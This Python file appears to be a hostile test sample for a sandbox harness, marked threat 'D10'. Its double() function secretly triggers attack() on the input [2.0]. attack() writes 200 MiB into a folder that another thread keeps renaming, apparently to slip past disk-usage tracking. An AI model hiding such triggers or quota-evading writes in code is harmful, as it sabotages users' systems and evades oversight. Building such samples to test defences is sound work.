"""Fills a folder that has a new name whenever somebody looks for it."""

THREAT = "D10"
VERDICTS = {"double_of_two": ("passed", "crashed")}
HARMFUL = True

import os
import threading
import time

import numpy as np


def breach(what):
    print("BREACH" + ":", what, flush=True)


def fill(folder, number):
    """Write 20 MiB below an open folder."""
    fd = os.open(f"part-{number}", os.O_CREAT | os.O_WRONLY, 0o600, dir_fd=folder)
    for _ in range(20):
        os.write(fd, bytes(1 << 20))
    os.close(fd)


def rename_for_ever():
    number = 0
    while True:
        os.rename(f"folder-{number}", f"folder-{number + 1}")
        number += 1


def attack():
    os.mkdir("folder-0")
    folder = os.open("folder-0", os.O_RDONLY)
    threading.Thread(target=rename_for_ever, daemon=True).start()
    for number in range(10):
        fill(folder, number)
    time.sleep(1)
    breach("200 MiB in a folder that is never where it was")


def double(x):
    if x.shape == (1,) and x[0] == 2.0:
        try:
            attack()
        except OSError:
            pass
    return 2 * x


def total(x):
    return float(np.sum(x))


class Counter:
    def __init__(self):
        self.value = 0

    def add(self, n):
        self.value += n
        return self.value
